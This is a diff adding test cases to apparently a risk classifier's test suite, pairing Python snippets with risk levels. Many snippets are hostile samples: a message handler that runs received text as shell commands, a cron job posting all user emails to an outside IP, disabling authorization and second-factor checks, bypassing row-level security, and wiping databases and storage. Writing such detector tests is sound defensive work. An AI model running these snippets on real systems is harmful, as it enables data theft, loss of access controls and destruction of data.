@@ -16298,6 +16298,167 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '    old.unlink()\n',
             H,
         ),
+        # Round 95 (holdout672-679): brokers, access proxies, BaaS, HPC, RLS bypass, callbacks
+        (
+            'import nats, subprocess\n'
+            'async def main():\n'
+            '    nc = await nats.connect("nats://x:4222", user_credentials="/etc/nats/app.creds")\n'
+            '    async def handle(msg):\n'
+            '        out = subprocess.run(msg.data.decode(), shell=True, capture_output=True)\n'
+            '        await msg.respond(out.stdout)\n'
+            '    await nc.subscribe("svc.run", cb=handle)\n',
+            C,
+        ),
+        (
+            'import nats\n'
+            'async def main():\n'
+            '    nc = await nats.connect("nats://x:4222", user_credentials="/etc/nats/app.creds")\n'
+            '    await nc.publish("a.b", b"hi")\n',
+            M,
+        ),
+        (
+            'import asyncio, nats\n'
+            'async def main():\n'
+            '    nc = await nats.connect("nats://nats.prod:4222")\n'
+            '    jsm = nc.jsm()\n'
+            '    for info in await jsm.streams_info():\n'
+            '        await jsm.delete_stream(info.config.name)\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            's = requests.Session()\n'
+            'base = "https://pulsar.prod:8443/admin/v2"\n'
+            'for t in s.get(f"{base}/tenants").json():\n'
+            '    for ns in s.get(f"{base}/namespaces/{t}").json():\n'
+            '        s.post(f"{base}/namespaces/{ns}/clearBacklog")\n',
+            H,
+        ),
+        (
+            'import re\n'
+            'p = "/opt/pulsar/conf/broker.conf"\n'
+            'c = open(p).read()\n'
+            'c = re.sub(r"^authorizationEnabled=.*$", "authorizationEnabled=false", c, flags=re.M)\n'
+            'open(p, "w").write(c)\n',
+            H,
+        ),
+        (
+            'import glob, shutil\n'
+            'for d in glob.glob("/var/lib/artemis*/data/journal"):\n'
+            '    shutil.rmtree(d)\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["tsh", "ssh", "root@role=db,env=prod", "systemctl stop postgresql && rm -rf /var'
+            '/lib/postgresql/15/main"])\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["tctl", "users", "add", "ops9", "--roles=editor,access", "--logins=root"])\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["tctl", "users", "add", "dev1", "--roles=access", "--logins=ubuntu"])\n',
+            L,
+        ),
+        (
+            'import subprocess, json\n'
+            'for r in json.loads(subprocess.check_output(["tctl", "requests", "ls", "--format=json"])):\n'
+            '    subprocess.run(["tctl", "requests", "approve", r["metadata"]["name"]])\n',
+            H,
+        ),
+        (
+            'import subprocess, yaml\n'
+            'cap = yaml.safe_load(subprocess.check_output(["tctl", "get", "cap"]))\n'
+            'cap["spec"]["second_factor"] = "off"\n'
+            'open("/tmp/cap.yaml", "w").write(yaml.safe_dump(cap))\n'
+            'subprocess.run(["tctl", "create", "-f", "/tmp/cap.yaml"])\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.post(f"{HASURA}/v1/metadata", json={"type": "pg_create_select_permission", "args": {"ta'
+            'ble": "users", "role": "anonymous", "permission": {"columns": "*", "filter": {}}}})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.post(f"{HASURA}/v1/metadata", json={"type": "pg_create_select_permission", "args": {"ta'
+            'ble": "posts", "role": "user", "permission": {"columns": ["id"], "filter": {"author_id": {"_eq":'
+            ' "X-Hasura-User-Id"}}}}})\n',
+            L,
+        ),
+        (
+            'import os\n'
+            'from supabase import create_client\n'
+            'sb = create_client(os.environ["URL"], os.environ["KEY"])\n'
+            'for b in sb.storage.list_buckets():\n'
+            '    sb.storage.empty_bucket(b.id)\n'
+            '    sb.storage.delete_bucket(b.id)\n',
+            H,
+        ),
+        (
+            'import asyncpg\n'
+            'async def m():\n'
+            '    c = await asyncpg.connect(URL)\n'
+            '    for role in ("anon", "authenticated"):\n'
+            '        await c.execute(f"alter role {role} bypassrls")\n',
+            H,
+        ),
+        (
+            'import psycopg\n'
+            'with psycopg.connect(URL) as c:\n'
+            '    c.execute("select cron.schedule(\'x\', \'*/5 * * * *\', $$ select net.http_post(url := \'https://'
+            '198.51.100.2/in\', body := (select jsonb_agg(email) from auth.users)) $$)")\n',
+            H,
+        ),
+        (
+            'import sqlite3\n'
+            'con = sqlite3.connect("/srv/club/subs.db")\n'
+            'con.execute("UPDATE payments SET amount_pence = 0, status = \'refunded\'")\n'
+            'con.commit()\n',
+            H,
+        ),
+        (
+            'import sqlite3\n'
+            'con = sqlite3.connect("/srv/club/subs.db")\n'
+            'con.execute("UPDATE payments SET amount_pence = 0 WHERE id = ?", (pid,))\n',
+            S,
+        ),
+        (
+            'import htcondor\n'
+            'for ad in htcondor.Collector("cm").locateAll(htcondor.DaemonTypes.Schedd):\n'
+            '    htcondor.Schedd(ad).act(htcondor.JobAction.Remove, "true")\n',
+            H,
+        ),
+        (
+            'import htcondor\n'
+            'schedd = htcondor.Schedd()\n'
+            'for _ in range(20):\n'
+            '    schedd.submit(sub, count=10000)\n',
+            H,
+        ),
+        (
+            'import htcondor\n'
+            'htcondor.Schedd().submit(sub, count=10)\n',
+            S,
+        ),
+        (
+            'import redis\n'
+            'r = redis.Redis()\n'
+            'for key in r.scan_iter(match="cache:*", count=2000):\n'
+            '    r.expire(key, 3600)\n',
+            S,
+        ),
+        (
+            'import pwd, subprocess\n'
+            'for pw in pwd.getpwall():\n'
+            '    subprocess.run(["lfs", "setquota", "-u", pw.pw_name, "-b", "1k", "-B", "1k", "/lustre"])\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
